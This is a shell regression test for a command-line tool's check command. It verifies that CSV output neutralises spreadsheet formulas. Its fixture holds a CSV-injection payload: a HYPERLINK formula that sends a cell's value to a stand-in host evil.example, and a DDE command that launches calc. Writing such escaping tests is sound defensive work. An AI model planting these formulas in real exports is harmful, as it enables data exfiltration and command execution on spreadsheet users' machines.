#!/bin/bash
# A shared pack's check function can put any text in a finding's message; in the CSV of
# `qufa check` (meant for a spreadsheet) text that a spreadsheet would run as a formula is
# written with a leading apostrophe, so it stays text. JSON, for programs, keeps it exact.
# shellcheck source=tests/cli/lib.sh
. "$(dirname "$0")/../cli/lib.sh"
"$QUFA" init >/dev/null || fail "init"
printf '%s\n' 'local jg = db:add_org{kind = "committee", code = "jg", name = "机关党委"}' \
	'db:add_org{kind = "branch", code = "gy1", name = "一部", parent = jg}' >setup.lua
"$QUFA" run setup.lua || fail "setup"
cat >evil.lua <<'LUA'
qufa.standard{code = "EVIL", title = "=HYPERLINK(\"http://evil.example/?\"&A1,\"详情\")",
  effective = "2017-01-01", clauses = {{number = "1", type = "应", text = "x",
    require = qufa.check{subject = "org", fn = function()
      return false, "=cmd|' /C calc'!A0"
    end}}}}
LUA
"$QUFA" standards load evil.lua >/dev/null || fail "load"
run "$QUFA" --today 2017-09-05 check --org gy1 --period 2017 --standard EVIL --format csv --all
expect_rc 1
expect_out "'=cmd|' /C calc'!A0"
! grep -q ",=cmd" "$T/out" || fail "a formula cell reached the CSV: $(cat "$T/out")"
run "$QUFA" --today 2017-09-05 check --org gy1 --period 2017 --standard EVIL --format json
expect_rc 1
expect_out '"message": "=cmd|'"'"' /C calc'"'"'!A0"'
echo "ok"
